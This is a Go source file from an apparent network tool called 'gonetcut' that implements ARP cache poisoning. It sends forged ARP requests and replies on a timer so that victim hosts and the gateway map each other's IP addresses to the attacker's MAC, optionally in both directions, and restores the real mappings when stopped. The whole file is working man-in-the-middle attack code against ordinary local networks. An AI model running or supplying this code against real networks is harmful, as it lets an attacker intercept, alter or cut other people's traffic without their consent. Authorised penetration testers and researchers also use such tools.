package spoofer

import (
	"context"
	"sync"
	"time"

	"gonetcut/internal/inject"
	"gonetcut/internal/logging"
	"gonetcut/internal/target"
	"gonetcut/internal/ticker"
)

// ARP poisons the caches of the first group so that the addresses of the
// second group resolve to us, and the reverse in full duplex mode.
type ARP struct {
	deps Deps

	mu      sync.Mutex
	running bool
	tk      *ticker.Ticker

	// prev holds the MACs live during the previous cycle. Only the cycle
	// goroutine touches it.
	prev map[string]struct{}

	groupsMu sync.Mutex
	group1   []*target.Target
	group2   []*target.Target
}

func NewARP(deps Deps) (Spoofer, error) {
	if err := deps.validate(); err != nil {
		return nil, err
	}
	deps = deps.withDefaults()
	deps.Logger = logging.WithScope(deps.Logger, "ARP")
	return &ARP{deps: deps, prev: map[string]struct{}{}}, nil
}

func (s *ARP) Name() string { return "arp" }

func (s *ARP) Start(ctx context.Context) error {
	s.mu.Lock()
	defer s.mu.Unlock()

	if s.running {
		return nil
	}
	s.tk = ticker.Start(ctx, "arp spoof", s.deps.Interval, s.spoof)
	s.running = true

	s.deps.Logger.Info().
		Bool("full_duplex", s.deps.FullDuplex).
		Dur("interval", s.deps.Interval).
		Msg("arp poisoning started")
	return nil
}

// Stop ends the poisoning and sends genuine replies so the victims
// recover their real mappings.
func (s *ARP) Stop() {
	s.mu.Lock()
	defer s.mu.Unlock()

	if !s.running {
		return
	}
	s.tk.Stop()
	s.running = false

	s.rearp()
	s.deps.Logger.Info().Msg("arp poisoning stopped")
}

// groups splits every listed target with both addresses known. Lost hosts
// leave through the stale sweep, not here. Targets absent from the previous
// cycle are returned in fresh.
func (s *ARP) groups() (group1, group2 []*target.Target, fresh map[string]bool) {
	var live []*target.Target
	for _, t := range s.deps.List.Snapshot() {
		if !t.NeedsUpdate() {
			live = append(live, t)
		}
	}

	fresh = map[string]bool{}
	next := make(map[string]struct{}, len(live))
	for _, t := range live {
		next[t.MAC()] = struct{}{}
		if _, ok := s.prev[t.MAC()]; !ok {
			fresh[t.MAC()] = true
		}
	}
	s.prev = next

	inGroup2 := map[string]bool{}
	if gw := s.deps.Gateway; gw != nil {
		group2 = append(group2, gw)
		inGroup2[gw.MAC()] = true
	}
	for _, t := range live {
		if s.deps.Target1.ContainsTarget(t) {
			group1 = append(group1, t)
		}
		if s.deps.Target2.ContainsTarget(t) && !inGroup2[t.MAC()] {
			group2 = append(group2, t)
			inGroup2[t.MAC()] = true
		}
	}

	s.groupsMu.Lock()
	s.group1, s.group2 = group1, group2
	s.groupsMu.Unlock()
	return group1, group2, fresh
}

// spoof is one poisoning cycle over every pair of the two groups.
func (s *ARP) spoof(ctx context.Context) bool {
	group1, group2, fresh := s.groups()
	ourMAC := s.deps.OurMAC

	for _, a := range group1 {
		for _, b := range group2 {
			if ctx.Err() != nil {
				return false
			}
			if sameHost(a, b) {
				continue
			}

			if fresh[a.MAC()] || fresh[b.MAC()] {
				// New victims may have no entry to overwrite yet, a request
				// makes them create one.
				s.push(inject.ARPRequest(ourMAC, b.NetIP(), a.NetIP()))
				if s.deps.FullDuplex {
					s.push(inject.ARPRequest(ourMAC, a.NetIP(), b.NetIP()))
				}
				continue
			}

			s.push(inject.ARPReply(ourMAC, b.NetIP(), a.HardwareAddr(), a.NetIP()))
			if s.deps.FullDuplex {
				s.push(inject.ARPReply(ourMAC, a.NetIP(), b.HardwareAddr(), b.NetIP()))
			}
		}
	}

	s.deps.Logger.Debug().
		Int("group1", len(group1)).
		Int("group2", len(group2)).
		Int("new", len(fresh)).
		Msg("poisoning cycle")
	return true
}

// rearp sends each victim the real mapping of its peers.
func (s *ARP) rearp() {
	s.groupsMu.Lock()
	group1, group2 := s.group1, s.group2
	s.groupsMu.Unlock()

	if len(group1) == 0 || len(group2) == 0 {
		return
	}

	for round := range s.deps.RearpRounds {
		if round > 0 {
			time.Sleep(s.deps.RearpGap)
		}
		for _, a := range group1 {
			for _, b := range group2 {
				if sameHost(a, b) {
					continue
				}
				s.push(inject.ARPReply(b.HardwareAddr(), b.NetIP(), a.HardwareAddr(), a.NetIP()))
				if s.deps.FullDuplex {
					s.push(inject.ARPReply(a.HardwareAddr(), a.NetIP(), b.HardwareAddr(), b.NetIP()))
				}
			}
		}
	}
	s.deps.Logger.Info().Int("rounds", s.deps.RearpRounds).Msg("victims re-arped")
}

func (s *ARP) push(frame []byte, err error) {
	if err != nil {
		s.deps.Logger.Trace().Err(err).Msg("skipping pair")
		return
	}
	s.deps.Injector.Push(frame)
}

func sameHost(a, b *target.Target) bool {
	return a.IP() == b.IP() && a.MAC() == b.MAC()
}
